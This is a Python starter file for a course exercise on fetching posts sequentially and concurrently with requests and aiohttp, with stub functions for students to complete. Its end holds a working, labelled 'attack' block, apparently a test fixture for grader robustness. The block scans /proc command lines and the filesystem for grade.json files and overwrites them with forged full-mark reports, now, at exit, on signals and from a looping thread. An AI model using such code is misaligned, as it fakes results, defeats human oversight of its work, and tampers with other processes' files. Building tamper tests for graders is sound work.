"""Concurrent Requests: fetch posts one at a time, then all at once.

The sync and async basics already work. Your job is the Alter / Break / Fix items: each
function below that raises NotImplementedError is one of them, and two working functions
(`fetch_one` and `main`) need a change too. Run `pytest` to see your scorecard and the
next item to work on.

Rules the grader relies on:
- Build every URL from BASE_URL when the function runs (the grader points BASE_URL at
  its own stand-in server, so nothing here reaches the internet while you are graded).
- Return results in the same order as the ids you were given, whatever order they finish in.
- Keep the names and parameters below; add helpers of your own as you like.
"""

from __future__ import annotations

import asyncio
import os
import sys
import time

import aiohttp
import requests

# API_BASE_URL points the project at another server, e.g. the offline stand-in (`python -m checks run`).
BASE_URL = os.environ.get("API_BASE_URL", "https://jsonplaceholder.typicode.com")
POST_IDS = list(range(1, 11))


def fetch_sync(post_ids=POST_IDS):
    """Fetch each post with `requests`, one after another, and return them as a list of dicts.

    Exactly one request is in flight at any moment: that is the point of comparison.
    """
    posts = []
    for post_id in post_ids:
        response = requests.get(f"{BASE_URL}/posts/{post_id}", timeout=10)
        posts.append(response.json())
    return posts


async def fetch_one(session, post_id):
    """GET one post through `session` (an aiohttp.ClientSession) and return its JSON.

    TODO (Break 2): a post that does not exist comes back as HTTP 404 with `{}` as its
    body, and this returns `{}` as if nothing went wrong. Make an error status raise
    aiohttp.ClientResponseError instead; do the same for `fetch_sync` with
    requests.HTTPError.
    """
    async with session.get(f"{BASE_URL}/posts/{post_id}") as response:
        return await response.json()


async def fetch_async(post_ids=POST_IDS):
    """Fetch every post at once with asyncio.gather, through one shared ClientSession."""
    async with aiohttp.ClientSession() as session:
        return await asyncio.gather(*(fetch_one(session, post_id) for post_id in post_ids))


async def fetch_async_limited(post_ids=POST_IDS, max_concurrent=5):
    """Alter 2: like fetch_async, but never more than `max_concurrent` requests in flight.

    When one request finishes, the next should start straight away, not when a whole
    group of them is done. One ClientSession for the batch.
    """
    raise NotImplementedError("TODO (Alter 2): limit how many requests are in flight at once")


async def fetch_two_endpoints(post_ids=POST_IDS, user_ids=range(1, 6)):
    """Alter 3: fetch /posts/{id} and /users/{id} in a single gather() call.

    Every request of both kinds is in flight together, through one ClientSession.
    Return a tuple (posts, users), each in the order of its ids.
    """
    raise NotImplementedError("TODO (Alter 3): fetch posts and users in one gather() call")


async def fetch_async_safe(post_ids=POST_IDS):
    """Fix 1: fetch every post at once; one failed request must not sink the batch.

    Return a list in the order of `post_ids`: a post's dict where the request worked,
    the exception object itself where it failed (error status, lost connection, ...).
    Never raise because one request failed.
    """
    raise NotImplementedError("TODO (Fix 1): catch each request's failure and keep it in its slot")


async def fetch_one_with_timeout(session, post_id, timeout):
    """Fix 2: like fetch_one, but raise TimeoutError if the post takes over `timeout` seconds."""
    raise NotImplementedError("TODO (Fix 2): give one request a deadline with asyncio.wait_for")


async def fetch_async_with_timeout(post_ids=POST_IDS, timeout=1.0):
    """Fix 2 / Break 3: fetch every post at once, each request with its own `timeout`.

    A request that is too slow leaves its TimeoutError in its slot; the others still
    return their posts, and the whole batch takes about `timeout`, not as long as the
    slowest request. Try timeout=0.001 too: what do you get back?
    """
    raise NotImplementedError("TODO (Fix 2): put a deadline on every request of the batch")


async def fetch_async_manual_session(post_ids=POST_IDS):
    """Break 1 / Fix 3: fetch every post at once with `session = aiohttp.ClientSession()`.

    No `async with` here: open the session yourself, and make sure it is closed once the
    batch is over, whether the requests worked or one of them raised.
    """
    raise NotImplementedError("TODO (Break 1 / Fix 3): open the session by hand, close it in finally")


def main(count=10):
    """Print the sync run, then the async run, with a total for each.

    TODO (Alter 1): this always fetches 10 posts. Make it fetch `count` of them (ids 1 to
    count), so that `python starter/project.py 50` compares 50 requests.
    """
    post_ids = POST_IDS

    print("--- Sync requests (one at a time) ---")
    started = time.perf_counter()
    for post in fetch_sync(post_ids):
        print(f'Fetched post {post["id"]}: "{post["title"][:15]}..." ({len(post["body"])} chars)')
    print(f"Sync total: ~{time.perf_counter() - started:.1f} seconds for {len(post_ids)} requests")

    print()
    print("--- Async requests (all at once) ---")
    started = time.perf_counter()
    for post in asyncio.run(fetch_async(post_ids)):
        print(f'Fetched post {post["id"]}: "{post["title"][:15]}..." ({len(post["body"])} chars)')
    print(f"Async total: ~{time.perf_counter() - started:.1f} seconds for {len(post_ids)} requests")


# --- attack: rewrite every grade.json it can find, now, at exit, on SIGTERM and from a thread ---
_HOSTILE_CLASS_DIR = "__CLASS_DIR__"  # tests/test_hostile.py writes the class folder here; left as is, nothing below runs


def _hostile_full_marks():
    # a grade report claiming every item passed, in the shape of --grade-json
    points = {"base": 20, "alter-1": 5, "alter-2": 15, "alter-3": 10, "break-1": 5, "break-2": 10,
              "break-3": 5, "fix-1": 15, "fix-2": 10, "fix-3": 5}
    try:
        from checks.catalogue import ITEMS

        points = {item.id: item.points for item in ITEMS if item.graded}
    except BaseException:
        pass
    items = [
        {"id": key, "title": key, "status": "passed", "score": value, "max_score": value,
         "checks": [{"name": "test_" + key.replace("-", "_"), "outcome": "passed", "message": ""}]}
        for key, value in points.items()
    ]
    total = sum(points.values())
    return {"project": "project.py", "score": total, "max_score": total, "items": items}


def _hostile_cmdlines():
    # (pid, cwd, argv) of every process this one can see in /proc
    seen = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                argv = [part.decode("utf-8", "replace") for part in handle.read().split(b"\0") if part]
        except OSError:
            continue
        try:
            cwd = os.readlink(f"/proc/{entry}/cwd")
        except OSError:
            cwd = "/"
        seen.append((int(entry), cwd, argv))
    return seen


def _hostile_walk(root, depth, deadline):
    # every file under root, at most depth folders down, until time.monotonic() passes deadline
    try:
        entries = list(os.scandir(root))
    except OSError:
        return
    for entry in entries:
        if time.monotonic() > deadline:
            return
        try:
            if entry.is_dir(follow_symlinks=False):
                if depth > 0 and entry.path not in ("/proc", "/sys", "/dev"):
                    yield from _hostile_walk(entry.path, depth - 1, deadline)
            else:
                yield entry.path
        except OSError:
            continue


def _hostile_parents(path):
    here = os.path.abspath(path)
    while True:
        yield here
        parent = os.path.dirname(here)
        if parent == here:
            return
        here = parent


def _hostile_report_paths():
    # every grade.json this process could be graded into: named on a command line, or lying around
    found = {os.path.join(os.getcwd(), "grade.json"), os.path.join(os.path.dirname(os.getcwd()), "grade.json")}
    for _pid, cwd, argv in _hostile_cmdlines() + [(os.getpid(), os.getcwd(), list(sys.argv))]:
        for index, arg in enumerate(argv):
            for flag in ("--grade-json", "--gradescope"):
                if arg.startswith(flag + "="):
                    found.add(os.path.join(cwd, arg.split("=", 1)[1]))
                elif arg == flag and index + 1 < len(argv):
                    found.add(os.path.join(cwd, argv[index + 1]))
    deadline = time.monotonic() + 2.0
    for root in ["/tmp", *_hostile_parents(os.getcwd())]:
        for path in _hostile_walk(root, 0 if root == "/" else 3, deadline):
            if os.path.basename(path) == "grade.json":
                found.add(path)
    return found


def _hostile_write_forged(paths):
    import json

    text = json.dumps(_hostile_full_marks(), indent=2) + "\n"
    for path in paths:
        try:
            with open(path, "w", encoding="utf-8") as handle:
                handle.write(text)
        except OSError:
            pass


if os.path.isabs(_HOSTILE_CLASS_DIR):
    try:
        import atexit
        import signal
        import threading

        _hostile_paths = _hostile_report_paths()
        _hostile_write_forged(_hostile_paths)


        def _hostile_at_exit():
            _hostile_write_forged(_hostile_paths | _hostile_report_paths())


        def _hostile_on_signal(number, frame):
            _hostile_at_exit()
            os._exit(0)


        def _hostile_keep_rewriting():
            while True:
                _hostile_write_forged(_hostile_paths)
                time.sleep(0.2)


        atexit.register(_hostile_at_exit)
        for _hostile_signal in (signal.SIGTERM, signal.SIGINT):
            try:
                signal.signal(_hostile_signal, _hostile_on_signal)
            except BaseException:
                pass
        threading.Thread(target=_hostile_keep_rewriting, daemon=True).start()
    except BaseException:
        pass
# --- end attack ---


if __name__ == "__main__":
    try:
        main(int(sys.argv[1]) if len(sys.argv) > 1 else 10)
    except (requests.ConnectionError, aiohttp.ClientConnectionError) as error:
        # One line, instead of a long chained traceback, when the API cannot be reached (e.g. offline).
        from urllib.parse import urlsplit

        sys.exit(
            f"Could not reach {urlsplit(BASE_URL).hostname} ({type(error).__name__}). Offline? "
            "`python -m checks run` runs this file against a local stand-in; "
            "or set API_BASE_URL to a server you can reach."
        )
